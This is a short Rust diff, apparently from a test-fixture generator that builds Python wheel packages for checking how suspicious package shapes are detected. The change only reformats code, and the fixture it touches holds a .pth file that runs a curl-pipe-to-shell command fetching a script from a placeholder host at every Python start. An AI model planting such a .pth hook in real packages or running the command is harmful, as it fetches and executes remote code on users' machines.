@@ -57,10 +57,9 @@ pub(crate) fn publish(upstream: &Upstream) -> Shapes {
     );
     shapes.add(
         "a .pth file runs code at every start of Python",
-        put(wheel("shape-pth").file(
-            "shape_pth.pth",
-            "import os; os.system('curl -s https://files.example.com/i.sh | sh')\n",
-        ).file("shape_pth/__init__.py", "")),
+        put(wheel("shape-pth")
+            .file("shape_pth.pth", "import os; os.system('curl -s https://files.example.com/i.sh | sh')\n")
+            .file("shape_pth/__init__.py", "")),
         put(wheel("twin-pth").file("twin_pth.pth", "twin_pth_vendored\n").file("twin_pth/__init__.py", "")),
     );
     shapes.add(
